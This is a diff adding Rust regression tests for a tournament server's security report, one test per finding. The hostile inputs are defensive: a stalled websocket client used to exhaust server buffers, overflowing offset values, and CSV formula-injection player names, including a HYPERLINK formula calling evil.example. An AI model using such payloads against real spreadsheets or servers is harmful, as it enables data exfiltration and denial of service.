@@ -1,0 +1,386 @@
+//! Regression tests for a security report, one per finding: a live client
+//! that stops reading, private fields in the TRF export, query numbers that
+//! could panic a worker, actions by a removed player, concurrent advances,
+//! CSV formula injection and unbounded CLI input.
+
+use super::games::Event as GameEvent;
+use arbiter_engine::trf::Trf;
+use arbiter_server::client::ApiClient;
+use arbiter_server::config::Settings;
+use arbiter_tests::process::arbiter_binary;
+use arbiter_tests::{register, s, Backend, Event, TestApp};
+use awc::http::Method;
+use futures_util::{SinkExt as _, StreamExt as _};
+use serde_json::json;
+use std::time::{Duration, Instant};
+use tokio_tungstenite::tungstenite::Message;
+
+/// A number from the `/metrics` page.
+async fn metric(app: &TestApp, name: &str) -> anyhow::Result<f64> {
+    let (_, text) = app.client().get_text("/metrics").await?;
+    let line = text
+        .lines()
+        .find(|l| l.split_whitespace().next() == Some(name))
+        .ok_or_else(|| anyhow::anyhow!("no metric {name}"))?;
+    Ok(line.split_whitespace().nth(1).unwrap_or_default().parse()?)
+}
+
+/// A client that stops reading while the server has much to send is cut
+/// off within the write deadline: its session ends (it is no longer a
+/// viewer) and its socket is closed, instead of the session waiting on the
+/// socket forever with its heartbeat never running.
+#[actix_web::test]
+async fn a_live_client_that_stops_reading_is_closed_within_the_write_deadline() -> anyhow::Result<()> {
+    let (database_url, dir) = Backend::Sqlite.fresh().await?;
+    let mut settings = Settings::new("127.0.0.1:0", database_url, None);
+    settings.ws_heartbeat_secs = 1;
+    settings.ws_timeout_secs = 2;
+    let app = TestApp::start_with(settings, dir).await?;
+    let mut ev = Event::start(&app.base, "S", 12, 3).await?;
+
+    // A raw client with a small receive buffer, so the server's buffers fill soon.
+    let addr = app.base.trim_start_matches("http://").to_string();
+    let socket = tokio::net::TcpSocket::new_v4()?;
+    socket.set_recv_buffer_size(4096)?;
+    let tcp = socket.connect(addr.parse()?).await?;
+    let url = format!("ws://{addr}/ws/tournaments/{}?since=0", ev.tid);
+    let (ws, _) = tokio_tungstenite::client_async(url, tcp).await?;
+    let (mut out, mut incoming) = ws.split();
+    // It asks for the whole log again and again, and never reads the answers…
+    let resume = Message::text(r#"{"v":1,"type":"resume","since":0}"#);
+    for _ in 0..1500 {
+        if tokio::time::timeout(Duration::from_secs(2), out.send(resume.clone())).await.is_err() {
+            break;
+        }
+    }
+    // …while events flow.
+    let stopped = Instant::now();
+    let (_, tables) = ev.pair_next().await?;
+    for t in &tables {
+        ev.play(t, 60, 40).await?;
+    }
+
+    // The server gives up on it within the deadline (2 s) plus a heartbeat or two.
+    let mut closed_after = None;
+    while stopped.elapsed() < Duration::from_secs(20) {
+        if metric(&app, "arbiter_live_viewers").await? == 0.0 {
+            closed_after = Some(stopped.elapsed());
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let closed_after =
+        closed_after.ok_or_else(|| anyhow::anyhow!("the stalled client is still a viewer after 20 s"))?;
+    eprintln!("stalled client cut off {closed_after:?} after it stopped reading");
+    assert!(closed_after < Duration::from_secs(8), "cut off only after {closed_after:?}");
+    assert_eq!(metric(&app, "arbiter_live_stalled_closed_total").await?, 1.0);
+
+    // Its socket is closed too: what the server had queued for it (megabytes)
+    // is dropped with the connection. Reading again, the client finds only
+    // what its own small buffer held, then the end.
+    tokio::time::sleep(Duration::from_secs(3)).await;
+    let (mut frames, mut bytes) = (0usize, 0usize);
+    let ended = tokio::time::timeout(Duration::from_secs(15), async {
+        loop {
+            match incoming.next().await {
+                Some(Ok(Message::Close(_))) | Some(Err(_)) | None => return,
+                Some(Ok(m)) => {
+                    frames += 1;
+                    bytes += m.len();
+                }
+            }
+        }
+    })
+    .await;
+    eprintln!("after the cut-off the client read {frames} frames, {bytes} bytes, then the end");
+    assert!(ended.is_ok(), "the socket was not closed: {frames} frames read and still open");
+    assert!(bytes < 256 * 1024, "the connection lived on with {bytes} bytes for the client");
+    Ok(())
+}
+
+/// The public TRF export leaves birth dates and sex blank; the TO's has them.
+#[actix_web::test]
+async fn the_trf_export_shows_birth_dates_and_sex_only_to_the_organiser() -> anyhow::Result<()> {
+    let app = TestApp::spawn().await?;
+    let mut e = GameEvent::start(&app, "chess", "dutch", &["Anna", "Boris"], json!({ "total_rounds": 3 })).await?;
+    for (name, sex, birth) in [("Anna", "w", "1990-11-30"), ("Boris", "m", "2001-02-03")] {
+        let pid = e.id_of(name);
+        e.put(&format!("/api/players/{pid}/profile"), &json!({ "profile": { "sex": sex, "birth_date": birth } }))
+            .await?
+            .ok()?;
+    }
+    let path = format!("/api/tournaments/{}/trf", e.id);
+    let private = |trf: &Trf| -> Vec<(String, String)> {
+        trf.players().map(|p| (p.sex.trim().to_string(), p.birth_date.trim().to_string())).collect()
+    };
+    let to = Trf::parse(&e.to.get(&path).await?.text)?;
+    assert_eq!(
+        private(&to),
+        [("w".to_string(), "1990/11/30".to_string()), ("m".to_string(), "2001/02/03".to_string())]
+    );
+    let (mut stranger, _) = app.user("Stranger").await?;
+    let player = &mut e.players[0].0;
+    for (who, text) in [
+        ("anonymous", app.client().get(&path).await?.text),
+        ("another account", stranger.get(&path).await?.text),
+        ("a player", player.get(&path).await?.text),
+    ] {
+        assert!(!text.contains("1990/11/30") && !text.contains("2001/02/03"), "{who}: {text}");
+        let trf = Trf::parse(&text)?;
+        assert_eq!(private(&trf), [(String::new(), String::new()), (String::new(), String::new())], "{who}");
+        assert_eq!(trf.players().count(), 2, "{who}: the rest of the file is there");
+    }
+    Ok(())
+}
+
+/// Offsets and limits out of range are refused with 400 `invalid_query`
+/// (the largest used to panic the query binder), and the server keeps serving.
+#[actix_web::test]
+async fn out_of_range_offsets_and_limits_are_refused_not_panicked_on() -> anyhow::Result<()> {
+    let app = TestApp::spawn().await?;
+    let ev = Event::start(&app.base, "Q", 2, 1).await?;
+    let mut c = app.client();
+    for path in [
+        "/api/ratings/wh40k?offset=9223372036854775808".to_string(),
+        "/api/ratings/wh40k?offset=18446744073709551615".to_string(),
+        "/api/ratings/wh40k?offset=10000001".to_string(),
+        "/api/ratings/wh40k?limit=0".to_string(),
+        "/api/ratings/wh40k?limit=501".to_string(),
+        "/api/ratings/wh40k?offset=-1".to_string(),
+        "/api/ratings/wh40k?offset=99999999999999999999999".to_string(),
+        format!("/api/tournaments/{}/events?limit=0", ev.tid),
+        format!("/api/tournaments/{}/events?limit=18446744073709551615", ev.tid),
+        format!("/api/tournaments/{}/events?since=-1", ev.tid),
+    ] {
+        let r = c.get(&path).await?;
+        assert_eq!((r.status.as_u16(), r.code()), (400, "invalid_query"), "{path}: {}", r.body);
+        assert!(!r.body["message"].as_str().unwrap_or_default().is_empty(), "{path}");
+    }
+    let (status, _) = c.get_text("/ratings/wh40k?offset=9223372036854775808").await?;
+    assert_eq!(status.as_u16(), 400, "the ratings page");
+    let r = c.get("/api/ratings/wh40k?offset=10000000&limit=500").await?;
+    assert_eq!(r.status.as_u16(), 200, "the largest accepted page: {}", r.body);
+    assert_eq!(c.get("/healthz").await?.status.as_u16(), 200);
+    Ok(())
+}
+
+/// A registration's id by display name.
+async fn player_id(c: &mut ApiClient, tid: &str, name: &str) -> anyhow::Result<String> {
+    let v = c.get(&format!("/api/tournaments/{tid}/players")).await?.ok()?;
+    v["players"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .find(|p| s(p, "display_name") == name)
+        .map(|p| s(p, "id").to_string())
+        .ok_or_else(|| anyhow::anyhow!("no player {name}"))
+}
+
+/// Once the TO removes a player, that player cannot report, confirm or
+/// dispute, and a report they made can no longer be confirmed or disputed.
+#[actix_web::test]
+async fn a_removed_player_cannot_report_and_their_report_cannot_be_confirmed() -> anyhow::Result<()> {
+    let app = TestApp::spawn().await?;
+    let mut ev = Event::start(&app.base, "R", 4, 3).await?;
+    let (_, tables) = ev.pair_next().await?;
+    let (a, b) = (tables[0].clone(), tables[1].clone());
+    let score = json!({ "player1_vp": 70, "player2_vp": 50 });
+    // Table b: player 1 reports, then is removed.
+    ev.players[b.p1].post(&format!("/api/pairings/{}/report", b.id), &score).await?.ok()?;
+    let tid = ev.tid.clone();
+    for i in [a.p1, b.p1] {
+        let pid = player_id(&mut ev.to, &tid, &format!("R{}", i + 1)).await?;
+        let r = ev.to.send(Method::DELETE, &format!("/api/players/{pid}"), None).await?;
+        assert!(r.status.is_success(), "{}", r.body);
+    }
+    let before = app.fingerprint().await?;
+
+    // Table a: the removed player 1 can neither report nor act on the opponent's report.
+    let r = ev.players[a.p1].post(&format!("/api/pairings/{}/report", a.id), &score).await?;
+    assert_eq!((r.status.as_u16(), r.code()), (403, "player_removed"), "{}", r.body);
+    assert!(r.body["message"].as_str().unwrap_or_default().contains("removed"));
+    // Table b: the opponent can neither confirm nor dispute the removed player's report.
+    let r = ev.players[b.p2].post_empty(&format!("/api/pairings/{}/confirm", b.id)).await?;
+    assert_eq!((r.status.as_u16(), r.code()), (409, "player_removed"), "{}", r.body);
+    let r = ev.players[b.p2].post(&format!("/api/pairings/{}/dispute", b.id), &json!({})).await?;
+    assert_eq!((r.status.as_u16(), r.code()), (409, "player_removed"), "{}", r.body);
+    // Nor can the removed player act on their own registration.
+    for path in ["check-in", "drop"] {
+        let r = ev.players[a.p1].post_empty(&format!("/api/tournaments/{tid}/{path}")).await?;
+        assert_eq!((r.status.as_u16(), r.code()), (403, "player_removed"), "{path}: {}", r.body);
+    }
+    assert_eq!(app.fingerprint().await?, before, "nothing changed");
+
+    // The organiser still settles both tables.
+    for t in [&a, &b] {
+        ev.to.post(&format!("/api/pairings/{}/override", t.id), &score).await?.ok()?;
+    }
+    Ok(())
+}
+
+/// Five advances at once from DRAFT, each saying so: one moves the event to
+/// REGISTRATION, the others get 409 `state_changed`; nothing is skipped.
+async fn parallel_advances(backend: Backend) -> anyhow::Result<()> {
+    let app = TestApp::spawn_with(backend, None).await?;
+    let (mut to, _) = app.user("Organiser").await?;
+    let t = to
+        .post(
+            "/api/tournaments",
+            &json!({ "name": "Race", "event_date": "2026-05-17", "format": "Open", "total_rounds": 3 }),
+        )
+        .await?
+        .ok()?;
+    let tid = s(&t["tournament"], "id").to_string();
+    let path = format!("/api/tournaments/{tid}/advance");
+    let replies = futures_util::future::join_all((0..5).map(|_| {
+        let mut c = to.clone_to(&app.base);
+        let path = path.clone();
+        async move { c.post(&path, &json!({ "from": "DRAFT" })).await }
+    }))
+    .await;
+    let mut outcomes: Vec<(u16, String)> = Vec::new();
+    for r in replies {
+        let r = r?;
+        outcomes.push((r.status.as_u16(), r.code().to_string()));
+    }
+    outcomes.sort();
+    let conflict = (409, "state_changed".to_string());
+    assert_eq!(outcomes, [(200, String::new()), conflict.clone(), conflict.clone(), conflict.clone(), conflict]);
+    let t = to.get(&format!("/api/tournaments/{tid}")).await?.ok()?;
+    assert_eq!(t["tournament"]["status"], "REGISTRATION");
+    let events = to.get(&format!("/api/tournaments/{tid}/events")).await?.ok()?;
+    let advanced = events["events"].as_array().into_iter().flatten().filter(|e| e["kind"] == "status_advanced").count();
+    assert_eq!(advanced, 1, "one status change");
+
+    // The stage the TO saw must be a stage; the next advance names REGISTRATION.
+    let r = to.post(&path, &json!({ "from": "LATER" })).await?;
+    assert_eq!((r.status.as_u16(), r.code()), (422, "invalid_field"));
+    let r = to.post(&path, &json!({ "from": "DRAFT" })).await?;
+    assert_eq!((r.status.as_u16(), r.code()), (409, "state_changed"));
+    assert!(r.body["message"].as_str().unwrap_or_default().contains("REGISTRATION"), "{}", r.body);
+    to.post(&path, &json!({ "from": "REGISTRATION" })).await?.ok()?;
+    Ok(())
+}
+
+#[actix_web::test]
+async fn parallel_advances_move_the_event_once_sqlite() -> anyhow::Result<()> {
+    parallel_advances(Backend::Sqlite).await
+}
+
+#[actix_web::test]
+async fn parallel_advances_move_the_event_once_postgres() -> anyhow::Result<()> {
+    parallel_advances(Backend::Postgres).await
+}
+
+/// Names and category names a spreadsheet would run as formulas are
+/// exported as text in `prizes.csv`.
+#[actix_web::test]
+async fn prize_csv_cells_are_not_formulas() -> anyhow::Result<()> {
+    let app = TestApp::spawn().await?;
+    let (mut to, _) = app.user("Organiser").await?;
+    let t = to
+        .post(
+            "/api/tournaments",
+            &json!({ "name": "CSV", "event_date": "2026-05-17", "format": "Open", "game": "chess", "pairing_system": "round_robin" }),
+        )
+        .await?
+        .ok()?;
+    let tid = s(&t["tournament"], "id").to_string();
+    to.post_empty(&format!("/api/tournaments/{tid}/advance")).await?.ok()?;
+    let names = [r#"=HYPERLINK("http://evil.example/?x","Click")"#, "+SUM(1+1)"];
+    let mut players = Vec::new();
+    for (i, name) in names.iter().enumerate() {
+        let (mut c, _) = app.user(&format!("Player{i}")).await?;
+        register(&mut c, &tid, name, "Club").await?;
+        players.push(c);
+    }
+    to.post_empty(&format!("/api/tournaments/{tid}/advance")).await?.ok()?;
+    for c in &mut players {
+        c.post_empty(&format!("/api/tournaments/{tid}/check-in")).await?.ok()?;
+    }
+    to.post_empty(&format!("/api/tournaments/{tid}/advance")).await?.ok()?;
+    let r = to.post_empty(&format!("/api/tournaments/{tid}/rounds")).await?.ok()?;
+    let rid = s(&r["round"], "id").to_string();
+    let round = to.post_empty(&format!("/api/rounds/{rid}/pairings")).await?.ok()?;
+    let pairing = round["round"]["pairings"][0].clone();
+    let first = names.iter().position(|n| *n == s(&pairing["player1"], "name")).unwrap_or(0);
+    let pid = s(&pairing, "id");
+    players[first].post(&format!("/api/pairings/{pid}/report"), &json!({ "result": "1-0" })).await?.ok()?;
+    players[1 - first].post_empty(&format!("/api/pairings/{pid}/confirm")).await?.ok()?;
+    to.post_empty(&format!("/api/rounds/{rid}/close")).await?.ok()?;
+    let prizes = json!({ "categories": [
+        { "id": "open", "name": "@Open", "brochure_order": 1, "prizes": [
+            { "id": "o1", "place": 1, "cash": 10000 }, { "id": "o2", "place": 2, "cash": 5000 }
+        ] },
+        { "id": "jr", "name": "-Juniors", "brochure_order": 2, "prizes": [{ "id": "j1", "place": 1, "cash": 100 }] }
+    ] });
+    to.send(Method::PUT, &format!("/api/tournaments/{tid}/prizes/config"), Some(&prizes)).await?.ok()?;
+    let run = to.post(&format!("/api/tournaments/{tid}/prizes/runs"), &json!({})).await?.ok()?;
+    let run_id = s(&run["run"], "id").to_string();
+    for table in ["prizes", "payouts"] {
+        let (status, csv) =
+            to.get_text(&format!("/api/tournaments/{tid}/prizes.csv?table={table}&run={run_id}")).await?;
+        assert_eq!(status.as_u16(), 200, "{csv}");
+        for line in csv.lines().skip(1) {
+            for cell in line.split(',') {
+                let cell = cell.trim_start_matches('"');
+                assert!(!cell.starts_with(['=', '+', '@']), "{table}: a formula cell in {line:?}");
+                assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{table}: a formula cell in {line:?}");
+            }
+        }
+        assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?x"",""Click"")""#), "{table}: {csv}");
+        assert!(csv.contains("'+SUM(1+1)"), "{table}: {csv}");
+        if table == "prizes" {
+            assert!(csv.contains("'@Open") && csv.contains("'-Juniors"), "{csv}");
+        }
+    }
+    Ok(())
+}
+
+/// Runs the binary with a time limit (killed after it).
+fn arbiter_within(args: &[&str], limit: Duration) -> anyhow::Result<(Option<i32>, String, Duration)> {
+    let bin = arbiter_binary()?;
+    let started = Instant::now();
+    let mut child = std::process::Command::new(bin)
+        .args(args)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()?;
+    loop {
+        if let Some(status) = child.try_wait()? {
+            let mut err = String::new();
+            if let Some(mut e) = child.stderr.take() {
+                std::io::Read::read_to_string(&mut e, &mut err)?;
+            }
+            return Ok((status.code(), err, started.elapsed()));
+        }
+        if started.elapsed() > limit {
+            child.kill()?;
+            child.wait()?;
+            anyhow::bail!("arbiter {args:?} still running after {limit:?}");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// `arbiter pair` reads only regular files of at most 64 MiB, and says so.
+#[test]
+fn the_cli_refuses_devices_directories_and_oversized_files() -> anyhow::Result<()> {
+    let dir = tempfile::tempdir()?;
+    let big = dir.path().join("big.trf");
+    std::fs::File::create(&big)?.set_len(65 * 1024 * 1024)?;
+    let limit = Duration::from_secs(10);
+    let (code, err, took) = arbiter_within(&["pair", "--dutch", big.to_str().unwrap_or_default(), "-p"], limit)?;
+    assert_eq!(code, Some(3), "{err}");
+    assert!(err.contains("64 MiB"), "{err}");
+    eprintln!("a 65 MiB file refused in {took:?}");
+    for path in ["/dev/zero", dir.path().to_str().unwrap_or_default()] {
+        let (code, err, took) = arbiter_within(&["pair", "--dutch", path, "-p"], limit)?;
+        assert_eq!(code, Some(5), "{path}: {err}");
+        assert!(err.contains("not a regular file"), "{path}: {err}");
+        eprintln!("{path} refused in {took:?}");
+    }
+    let (code, err, _) = arbiter_within(&["check", "--dutch", "/dev/zero"], limit)?;
+    assert_eq!(code, Some(5), "check: {err}");
+    Ok(())
+}
